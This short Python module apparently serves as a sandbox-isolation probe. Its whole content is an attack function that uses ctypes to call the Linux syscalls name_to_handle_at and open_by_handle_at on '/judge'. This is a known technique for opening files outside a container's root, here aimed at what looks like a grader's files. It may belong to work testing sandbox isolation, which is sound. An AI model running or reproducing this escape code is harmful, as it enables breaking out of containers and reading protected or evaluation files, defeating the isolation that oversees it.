"""open files by handles, which know no root

Breach: a handle, or a file by one. Runs with ctypes.
"""

import ctypes

RUNTIME = "peers"
CONTROL = True
NAME_TO_HANDLE_AT, OPEN_BY_HANDLE_AT = 303, 304


def attack(bait: bytes) -> bytes:
    calls = ctypes.CDLL(None, use_errno=True)
    handle = ctypes.create_string_buffer(b"\x80\0\0\0", 256)
    mount = ctypes.c_int()
    got = b""
    if calls.syscall(NAME_TO_HANDLE_AT, -100, b"/judge", handle, ctypes.byref(mount), 0) == 0:
        got += b"a handle "
    if calls.syscall(OPEN_BY_HANDLE_AT, -100, handle, 0) >= 0:
        got += b"a file"
    return got
